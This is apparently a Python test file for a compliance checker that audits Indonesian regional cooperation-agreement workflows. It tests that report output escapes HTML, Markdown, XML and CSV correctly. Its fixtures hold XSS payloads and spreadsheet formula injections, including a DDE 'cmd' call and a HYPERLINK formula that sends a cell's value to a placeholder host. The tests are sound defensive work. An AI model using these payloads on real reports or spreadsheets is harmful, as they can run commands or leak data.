"""Reports built without any reader (hand-built cases through checker.api.audit_cases), shared by the
report-format tests, and the tests of checker.reporters.safe (escaping, formula neutralising).

The injection report carries hostile strings where a log can put them: an activity label
`<script>alert(1)</script>`, a case attribute `" onmouseover=...`, a case id with an <img onerror>,
and spreadsheet formulas as actor and attribute values.
"""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import datetime, timedelta, timezone
from functools import cache
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from checker import __version__
from checker.api import audit_cases
from checker.conformance.results import Provenance, Report, Rows
from checker.events import Case, Event
from checker.reporters.safe import FORMULA_START, h, is_formula_like, md, md_code, neutralise, xml_text
from checker.sop.load import require_sop
from checker.workcal import WorkCalendar

REPO = Path(__file__).resolve().parent.parent
SOP_PATH = "rules/magetan/penawaran-kerja-sama.yaml"
AS_OF = "2026-11-25"
WIB = timezone(timedelta(hours=7))

INJECT_ACTIVITY = "<script>alert(1)</script>"
INJECT_ATTRIBUTE = '" onmouseover="window.__pwned=1;alert(2)" x="'
INJECT_CASE = '<img src=x onerror="window.__pwned=1">\'&'
FORMULA_ACTOR = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'
FORMULAS = {"catatan": "+cmd|' /C calc'!A0", "nomor": "@SUM(1+1)", "kode": "-2+3", "tab": "\t=1+1"}

# The SOP's path for KSDD / KSDPK: (activity, actor, documents produced, mode).
KSDD_PATH = (
    ("Menerima Surat Penawaran", "Bupati", ("Disposisi Bupati",), None),
    ("Disposisi ke Bagian Tapem", "Bupati", ("Disposisi yang jelas",), None),
    (
        "Rapat TKKSD Naskah Kerja Sama",
        "Bagian Tapem",
        ("Hasil rapat rencana Kerja Sama", "Rancangan Naskah Kerja Sama"),
        None,
    ),
    (
        "Legal Drafting Naskah Kerja Sama",
        "Bagian Tapem",
        ("Rancangan Naskah Kerja Sama yang telah mendapat Legal Drafting",),
        None,
    ),
    (
        "Penandatanganan Kesepakatan Bersama",
        "Bupati",
        ("Naskah Kerja Sama yang telah ditandatangani oleh Para Pihak", "Kesepakatan Bersama"),
        "tatap_muka",
    ),
    ("Rapat TKKSD Penyusunan PKS", "Bagian Tapem", ("Rancangan Perjanjian Kerja Sama",), None),
    ("Legal Drafting PKS", "Bagian Tapem", ("Naskah PKS yang telah mendapat Legal Drafting",), None),
    ("Penandatanganan PKS", "Bupati", ("PKS",), "desk_to_desk"),
    ("Pengarsipan", "Sekretariat TKKSD", ("Dokumen Kerja Sama yang telah diarsipkan",), None),
)


def make_case(
    case_id: str,
    start: datetime,
    days: list[int],
    *,
    steps: int = 9,
    activity: dict[int, str] | None = None,
    actor: dict[int, str] | None = None,
    attributes: dict[str, str] | None = None,
    row: int = 2,
) -> Case:
    """A KSDD case along the SOP path: event i on day `days[i]` after `start` (first `steps` steps),
    with `activity` / `actor` overriding a step's label or actor (by index)."""
    events = []
    for i, (label, who, docs, mode) in enumerate(KSDD_PATH[:steps]):
        attrs = {"mode": mode} if mode else {}
        events.append(
            Event(
                case_id,
                (activity or {}).get(i, label),
                start + timedelta(days=days[i]),
                actor=(actor or {}).get(i, who),
                documents=docs,
                attributes=attrs,
                row=row + i,
            )
        )
    case_attrs = {
        "jenis_kerja_sama": "KSDD",
        "tanggal_surat_masuk": start.date().isoformat(),
        "status": "selesai",
    }
    case_attrs.update(attributes or {})
    return Case(
        case_id,
        tuple(events),
        attributes=case_attrs,
        documents=("Surat Penawaran Kerja Sama", "KAK"),
    )


def hand_built_cases() -> list[Case]:
    monday = datetime(2025, 3, 3, 9, 0, tzinfo=WIB)
    on_time = [0, 1, 3, 8, 9, 14, 16, 17, 18]
    return [
        make_case("KS-OK-1", monday, on_time, row=2),
        make_case("KS-OK-2", monday + timedelta(days=7), on_time, row=11),
        # An activity the SOP does not know, in place of step 2, and hostile strings everywhere.
        make_case(
            INJECT_CASE,
            monday + timedelta(days=14),
            on_time,
            activity={1: INJECT_ACTIVITY},
            actor={2: FORMULA_ACTOR},
            attributes={"catatan_html": INJECT_ATTRIBUTE, **FORMULAS},
            row=20,
        ),
        # Step 3 far over its 7 working days; the case stops after step 4: overdue by the as-of date.
        make_case("KS-LATE", monday + timedelta(days=21), [0, 1, 30, 32], steps=4, row=29),
    ]


@cache
def injection_report(lang: str = "en") -> Report:
    """A Report from hand-built cases (no reader), the way `checker.api.audit` makes one."""
    sop = require_sop(REPO / SOP_PATH)
    cases = hand_built_cases()
    calendar = WorkCalendar.default()
    results = audit_cases(sop, cases, as_of=AS_OF, calendar=calendar, case_documents=True)
    events = sum(len(c.events) for c in cases)
    as_of = datetime.fromisoformat(AS_OF + "T23:59:59.999999").replace(tzinfo=calendar.tz)
    return Report(
        provenance=Provenance(
            sop_id=sop.id,
            sop_revisions=(sop.revision,),
            sop_paths=(SOP_PATH,),
            sop_sha256=(sop.sha256 or "-",),
            log_path=None,
            log_sha256=None,
            tool_version=__version__,
            as_of=as_of.isoformat(),
            calendar=calendar.describe(lang),
            lang=lang,
        ),
        rows=Rows(read=events, accepted=events, rejected=0, events_read=events),
        cases=tuple(results[k] for k in sorted(results)),
        perspectives={"flow": True, "actors": True, "documents": True, "time": True},
    )


# --- the builders themselves: the report has what the format tests rely on -------------------


def test_injection_report_has_the_cases_the_tests_need():
    report = injection_report()
    by_id = {c.case_id: c for c in report.cases}
    assert set(by_id) == {"KS-OK-1", "KS-OK-2", INJECT_CASE, "KS-LATE"}
    assert by_id["KS-OK-1"].compliant and not by_id["KS-OK-1"].findings
    codes = {f.code for f in by_id[INJECT_CASE].all_findings()}
    assert "FL003" in codes  # the <script> activity is an activity the SOP does not know
    assert any(e.activity == INJECT_ACTIVITY for e in by_id[INJECT_CASE].events)
    assert by_id[INJECT_CASE].attributes["catatan_html"] == INJECT_ATTRIBUTE
    late = by_id["KS-LATE"]
    assert late.status == "overdue"
    assert {"TM001", "CS001"} <= {f.code for f in late.all_findings()}
    assert any(t.elapsed is not None and t.allowed and t.elapsed > t.allowed for t in late.times)


# --- checker.reporters.safe ---------------------------------------------------------------------


@given(st.text())
def test_h_output_has_no_markup_characters(text):
    out = h(text)
    assert not set(out) & set("<>\"'")
    assert html.unescape(out) == text


@given(st.text())
def test_neutralise_never_leaves_a_formula_start(text):
    out = neutralise(text)
    assert not is_formula_like(out)
    assert out == text or out == "'" + text
    assert (out != text) == text.startswith(FORMULA_START)


def test_neutralise_leaves_numbers_and_none():
    assert neutralise(-3) == -3
    assert neutralise(2.5) == 2.5
    assert neutralise(None) is None
    assert neutralise(True) is True


@given(st.text())
def test_md_keeps_table_cells_and_tags_closed(text):
    out = md(text)
    assert "\n" not in out
    assert "<" not in out and ">" not in out
    assert re.search(r"(?<!\\)\|", out) is None  # every pipe escaped
    assert re.search(r"(?<!\\)`", out) is None


@given(st.text())
def test_md_code_is_one_code_span(text):
    out = md_code(text)
    fence = re.match(r"`+", out).group(0)
    assert out.endswith(fence)
    inner = out[len(fence) : -len(fence)]
    assert fence not in inner
    assert "\n" not in out


@given(st.text())
def test_xml_text_always_makes_well_formed_xml(text):
    import xml.etree.ElementTree as ET

    safe = xml_text(text)
    el = ET.Element("x", {"a": safe})
    el.text = safe
    back = ET.fromstring(ET.tostring(el, encoding="unicode"))  # raises if not well-formed
    if "\r" not in text:  # XML parsers normalise line ends in text
        assert (back.text or "") == safe
    assert len(safe) == len(text)


def test_csv_cells_are_neutralised_like_the_spreadsheet():
    from checker.reporters.csv_report import csv_report

    text = csv_report(injection_report(), "en")
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not is_formula_like(cell), cell
    assert "'" + FORMULA_ACTOR in text.replace('""', '"')
